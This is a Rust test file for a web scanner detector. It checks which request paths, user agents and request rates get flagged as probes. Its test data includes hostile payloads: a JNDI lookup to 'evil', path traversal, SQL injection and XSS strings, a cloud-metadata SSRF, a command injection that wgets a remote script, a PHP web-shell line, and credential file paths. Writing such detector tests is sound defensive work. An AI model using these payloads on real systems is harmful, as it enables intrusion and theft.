//! The seed's `ScannerDetector` rules, and the fixes to its misses.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use warden_security::ScannerDetector as D;

const CHROME_131: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";

// --- Seed: extensions ---------------------------------------------------------------------

#[test]
fn php_files_are_probes_at_any_depth_and_case() {
    for p in ["/admin.php", "/test.PHP", "/path/to/file.php"] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

#[test]
fn env_and_git_extensions_are_probes() {
    for p in [
        "/config.env",
        "/path/settings.env",
        "/app/prod.ENV",
        "/config.git",
        "/repo/file.git",
    ] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

#[test]
fn database_dumps_and_backups_are_probes() {
    for p in [
        "/backup.sql",
        "/dump.SQL",
        "/config.bak",
        "/old_file.old",
        "/archive.zip",
        "/backup.gz",
        "/database.db",
        "/app.DB",
    ] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

#[test]
fn config_cgi_and_htm_extensions_are_probes() {
    for p in [
        "/app.config",
        "/settings.CONFIG",
        "/script.cgi",
        "/handler.CGI",
        "/page.htm",
        "/index.HTM",
        "/login.htm",
    ] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

// --- Seed: directories and known files -----------------------------------------------------

#[test]
fn seed_directories_are_probes() {
    for p in [
        "/admin",
        "/admin/",
        "/admin/login",
        "/ADMIN",
        "/wp-admin",
        "/wp-admin/",
        "/wp-admin/admin.php",
        "/wp-content",
        "/wp-content/uploads",
        "/wp-content/plugins",
        "/uploads",
        "/uploads/",
        "/uploads/images",
        "/cgi-bin",
        "/cgi-bin/",
        "/cgi-bin/script.pl",
        "/phpmyadmin",
        "/phpMyAdmin",
        "/PHPMYADMIN",
        "/manager/html",
        "/manager/html/",
        "/config/",
        "/config/settings",
        "/identity",
        "/identity/",
    ] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

#[test]
fn seed_known_files_are_probes() {
    for p in [
        "/xmlrpc",
        "/xmlrpc.php",
        "/shell.php",
        "/path/shell.php",
        "/c99.php",
        "/uploads/c99.php",
        "/eval-stdin.php",
        "/setup.cgi",
    ] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

#[test]
fn ordinary_paths_and_assets_are_not_probes() {
    for p in [
        "/",
        "/api/users",
        "/api/v1/data",
        "/health",
        "/status",
        "/login",
        "/dashboard",
        "/static/app.js",
        "/assets/style.css",
        "/images/logo.png",
        "/fonts/roboto.woff2",
    ] {
        assert!(!D::is_scanner_path(p), "{p}");
    }
}

// --- Fixes: dot-files ----------------------------------------------------------------------

#[test]
fn dot_files_and_directories_are_probes() {
    for p in [
        "/.env",
        "/.env.production",
        "/.git/config",
        "/.git/HEAD",
        "/.aws/credentials",
        "/.ssh/id_rsa",
        "/.claude/settings.json",
        "/.cursor/mcp.json",
        "/.vscode/sftp.json",
        "/.DS_Store",
        "/.htaccess",
        "/.npmrc",
        "/.docker/config.json",
        "/app/.env",
        "/%2e%65nv",
        "/%2Egit/config",
    ] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

#[test]
fn well_known_is_not_a_dot_file_probe() {
    for p in [
        "/.well-known/jwks.json",
        "/.well-known/openid-configuration",
        "/.WELL-KNOWN/security.txt",
    ] {
        assert!(!D::is_scanner_path(p), "{p}");
    }
}

// --- Fixes: segment matching instead of substrings -----------------------------------------

#[test]
fn legitimate_paths_that_merely_contain_a_probe_word_are_not_probes() {
    for p in [
        "/administrator-guide",
        "/docs/administrators",
        "/blog/wp-content-strategy",
        "/admin-tools-review",
        "/blog/uploads-explained",
        "/configuration",
        "/config",
        "/identity-providers",
        "/phpmyadmin-alternatives",
        "/docs/cgi-bin-history",
        "/blog/how-to-harden-actuators",
        "/shellfish-recipes",
        "/owasp",
        "/api/v1/admin/users",
        "/downloads/release-1.2.zip",
        "/docs/page.htm/comments",
        "/pmarket",
        "/search?q=wp-admin",
    ] {
        assert!(!D::is_scanner_path(p), "{p}");
    }
}

#[test]
fn product_probe_paths_are_recognized_by_family() {
    for p in [
        "/wp-login.php",
        "/blog/wp-includes/wlwmanifest.xml",
        "/administrator/index.php",
        "/components/com_users/x",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/_ignition/execute-solution",
        "/actuator/env",
        "/api/actuator/heapdump",
        "/jenkins/script",
        "/manager/text/list",
        "/host-manager/html",
        "/owa/auth/logon.aspx",
        "/ecp/default.flt",
        "/autodiscover/autodiscover.json",
        "/remote/fgt_lang",
        "/dana-na/auth/url_default/welcome.cgi",
        "/global-protect/login.esp",
        "/tmui/login.jsp",
        "/+CSCOE+/logon.html",
        "/HNAP1/",
        "/boaform/admin/formLogin",
        "/server-status",
        "/solr/admin/cores",
        "/_profiler/phpinfo",
        "/h2-console",
        "/jmx-console",
        "/adminer.php",
        "/pma/",
        "/_vti_bin/shtml.dll",
        "/vpns/cfg/smb.conf",
    ] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

// --- Fixes: encodings and hostile forms ----------------------------------------------------

#[test]
fn percent_encoded_and_mixed_case_probes_are_seen() {
    for p in [
        "/%77p-admin/",
        "/WP-ADMIN",
        "/wp%2dlogin.php",
        "/%2577p-admin",
    ] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

#[test]
fn traversal_in_any_encoding_is_a_probe() {
    for p in [
        "/../../etc/hosts",
        "/static/%2e%2e/%2e%2e/x",
        "/a/..%2f..%2fb",
        "/a/%252e%252e/b",
        "/a\\..\\b",
        "/x/..;/y",
        "/%c0%ae%c0%ae/x",
    ] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

#[test]
fn null_bytes_are_probes() {
    assert!(D::is_scanner_path("/index.html%00.jpg"));
    assert!(D::is_scanner_path("/a\0b"));
}

#[test]
fn exploit_payloads_in_the_query_are_probes() {
    for p in [
        "/?x=${jndi:ldap://evil/a}",
        "/page?file=../../../../etc/passwd",
        "/item?id=1%20UNION%20SELECT%201,2",
        "/?-d+allow_url_include%3d1",
    ] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

// --- Seed: user agents ---------------------------------------------------------------------

#[test]
fn seed_scanner_agents_are_recognized() {
    for ua in [
        "masscan/1.0",
        "Masscan",
        "Nmap Scripting Engine",
        "nmap",
        "Nikto/2.1.6",
        "nikto",
        "sqlmap/1.4",
        "SQLMap",
        "Acunetix Web Vulnerability Scanner",
        "acunetix",
        "Nessus SOAP",
        "nessus",
        "OpenVAS",
        "openvas",
        "BurpSuite Scanner",
        "burpsuite",
        "OWASP ZAP",
        "zap/2.10",
        "zgrab/0.x",
        "ZGrab",
        "Censys",
        "censys",
        "Shodan",
        "shodan",
        "Metasploit",
        "metasploit",
        "Palo Alto Networks",
        "palo alto",
        "Cortex XSOAR",
        "cortex",
        "Xpanse",
        "xpanse",
    ] {
        assert!(D::is_scanner_agent(ua), "{ua}");
    }
}

#[test]
fn empty_short_and_bare_mozilla_agents_are_scanners() {
    for ua in [
        "",
        "short",
        "123456789",
        "Mozilla/5.0",
        "Mozilla/5.0 ",
        " Mozilla/5.0",
    ] {
        assert!(D::is_scanner_agent(ua), "{ua:?}");
    }
}

#[test]
fn short_tool_agents_are_scanners() {
    for ua in [
        "curl/7.68.0",
        "curl",
        "wget/1.20",
        "Wget",
        "python-requests/2.25",
        "Go-http-client/1.1",
        "Ruby",
        "Java/11.0.10",
        "java/1.8.0",
        "WordPress/5.7",
        "wp-http",
        "wp-cron",
        "Apache-HttpClient",
        "httpclient",
        "HttpUnit",
        "httpunit",
        "probe-image-size",
    ] {
        assert!(D::is_scanner_agent(ua), "{ua}");
    }
}

#[test]
fn long_tool_agents_are_not_scanners_by_the_seed_length_rules() {
    // curl under 20 bytes is the seed rule; a longer curl agent is not one.
    assert!(!D::is_scanner_agent(
        "curl/8.5.0 (x86_64-pc-linux-gnu) libcurl/8.5.0"
    ));
    assert!(!D::is_scanner_agent(
        "python-requests/2.31.0 (my-service build 42)"
    ));
}

#[test]
fn outdated_chrome_is_a_scanner() {
    assert!(D::is_scanner_agent(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/89.0.4389.82 Safari/537.36"
    ));
    assert!(D::is_scanner_agent(
        "Mozilla/5.0 (Windows NT 10.0) Chrome/50.0.2661.102"
    ));
}

#[test]
fn outdated_firefox_is_a_scanner_now_that_the_version_check_works() {
    assert!(D::is_scanner_agent(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:80.0) Gecko/20100101 Firefox/80.0 "
    ));
    assert!(D::is_scanner_agent(
        "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"
    ));
}

#[test]
fn current_browsers_are_not_scanners() {
    for ua in [
        CHROME_131,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0 ",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
    ] {
        assert!(!D::is_scanner_agent(ua), "{ua}");
    }
}

#[test]
fn words_that_contain_a_scanner_name_do_not_match() {
    for ua in [
        "Zapier/1.0 (+https://zapier.com) Mozilla/5.0 compatible",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 CCleaner/131.0",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 Nmapper",
    ] {
        assert!(!D::is_scanner_agent(ua), "{ua}");
    }
}

// --- Seed: velocity ------------------------------------------------------------------------

#[test]
fn thirty_requests_per_minute_is_not_high_velocity() {
    assert!(!D::is_high_velocity(10, 60));
    assert!(!D::is_high_velocity(30, 60));
}

#[test]
fn more_than_thirty_requests_per_minute_is_high_velocity() {
    assert!(D::is_high_velocity(31, 60));
    assert!(D::is_high_velocity(60, 60));
    assert!(D::is_high_velocity(100, 60));
    assert!(D::is_high_velocity(1, 1));
    assert!(!D::is_high_velocity(0, 1));
}

#[test]
fn zero_duration_is_never_high_velocity() {
    assert!(!D::is_high_velocity(100, 0));
}

// --- Seed: combined ------------------------------------------------------------------------

#[test]
fn a_probe_path_alone_makes_a_scanner() {
    assert!(D::is_scanner(
        Some("/wp-admin"),
        Some(CHROME_131),
        None,
        None
    ));
}

#[test]
fn a_scanner_agent_alone_makes_a_scanner() {
    assert!(D::is_scanner(
        Some("/api/data"),
        Some("Nmap Scripting Engine"),
        None,
        None
    ));
}

#[test]
fn high_velocity_alone_makes_a_scanner() {
    assert!(D::is_scanner(
        Some("/api/data"),
        Some(CHROME_131),
        Some(100),
        Some(60)
    ));
}

#[test]
fn a_missing_agent_makes_a_scanner() {
    assert!(D::is_scanner(Some("/api/data"), None, None, None));
}

#[test]
fn all_clean_signals_make_no_scanner() {
    assert!(!D::is_scanner(
        Some("/api/data"),
        Some(CHROME_131),
        Some(10),
        Some(60)
    ));
    assert!(!D::is_scanner(None, Some(CHROME_131), None, None));
}

#[test]
fn partial_velocity_data_is_ignored() {
    assert!(!D::is_scanner(
        Some("/api/data"),
        Some(CHROME_131),
        Some(100),
        None
    ));
    assert!(!D::is_scanner(
        Some("/api/data"),
        Some(CHROME_131),
        None,
        Some(60)
    ));
}

// --- Review fixes (session 8) ----------------------------------------------------------------

#[test]
fn health_and_metrics_endpoints_are_not_probes_but_leaky_actuators_are() {
    for p in [
        "/actuator/health",
        "/actuator/health/liveness",
        "/actuator/health/readiness",
        "/actuator/info",
        "/actuator/prometheus",
    ] {
        assert!(!D::is_scanner_path(p), "{p}");
    }
    for p in [
        "/actuator/env",
        "/actuator/heapdump",
        "/management/actuator/gateway/routes",
        "/actuator/threaddump",
        "/actuator/jolokia/list",
    ] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

#[test]
fn asp_net_and_jsp_pages_are_ordinary_but_their_web_shells_are_not() {
    for p in [
        "/Account/Login.aspx",
        "/Default.aspx",
        "/products/list.jsp",
        "/orders/view.do",
        "/sitemap.xml.gz",
        "/sitemap-products-1.xml.gz",
        "/adminer-review",
    ] {
        assert!(!D::is_scanner_path(p), "{p}");
    }
    for p in [
        "/cmd.aspx",
        "/uploads/shell.jsp",
        "/trace.axd",
        "/elmah.axd",
        "/test.php.",
        "/backup.zip",
        "/adminer",
        "/adminer-4.8.1.php",
    ] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

#[test]
fn common_injection_probes_in_the_query_are_exploits() {
    for p in [
        "/item?id=1%27%20OR%20%271%27%3D%271",
        "/item?id=1' or 1=1-- -",
        "/?id=1 union  select 1",
        "/?id=1%09union%09select%201",
        "/?id=1%0Aunion%0Aselect%201",
        "/?id=1/**/union/**/select/**/1",
        "/?id=1 union(select 1)",
        "/item?id=1%20AND%20SLEEP(5)",
        "/item?id=1';WAITFOR DELAY '0:0:5'--",
        "/item?id=1 AND extractvalue(1,concat(0x7e,version()))",
        "/item?q=<img src=x onerror=alert(1)>",
        "/item?q=<svg/onload=alert(1)>",
        "/item?next=javascript:alert(1)",
        "/item?url=http://169.254.169.254/latest/meta-data/",
        "/item?cmd=%3Bwget%20http%3A%2F%2F198.51.100.1%2Fx.sh",
        "/item?x=<?php system($_GET['c']); ?>",
    ] {
        assert!(D::is_scanner_path(p), "{p}");
    }
}

#[test]
fn named_scanners_of_the_seed_and_the_review_are_scanners() {
    for ua in [
        "libredtail-http",
        "Mozilla/5.0 (compatible; Odin; https://docs.getodin.com/)",
    ] {
        assert!(D::is_scanner_agent(ua), "{ua}");
    }
}

#[test]
fn searches_that_mention_attack_words_are_not_exploits() {
    for p in [
        "/search?q=javascript: the good parts",
        "/search?q=how to sleep(5 hours)",
        "/search?q=169.254.169.254",
        "/search?q=<?php echo tutorial",
    ] {
        assert!(!D::is_scanner_path(p), "{p}");
    }
    assert!(D::is_scanner_path("/console/login/LoginForm.jsp"));
}
